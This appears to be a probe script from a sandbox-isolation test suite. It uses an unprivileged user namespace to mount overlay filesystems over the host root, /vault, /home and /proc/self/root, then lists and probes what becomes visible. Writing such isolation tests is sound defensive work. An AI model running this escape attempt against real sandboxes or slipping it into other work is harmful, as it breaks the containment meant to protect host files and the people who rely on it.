#!/bin/bash
# title: an overlay with the host's root as its lower layer
# door: any
inside='mkdir -p "$WORK/m"
mount -t tmpfs any "$WORK/m" && cd "$WORK/m" && mkdir upper work all empty shown shown/home || exit
mount -t overlay -o "lowerdir=shown:empty" any all && echo "an overlay can be mounted: $(ls all)" && umount all
for lower in / /home /vault /home/.. /proc/self/root; do
    for options in "lowerdir=$lower:empty" "lowerdir=$lower:empty,userxattr" "lowerdir=$lower,upperdir=upper,workdir=work,userxattr"; do
        mount -t overlay -o "$options" any all || continue
        "$ATTACK/probe" "$PWD/all"
        ls all
        umount all
    done
done'
said=$(unshare -Urm --propagation private bash -c "$inside" 2>&1)
case $said in
*"can be mounted"*) echo "tried: an overlay of hidden places" ;;
*"unshare failed"*) echo "tried: a user namespace" ;;
esac
sort -u <<<"$said"
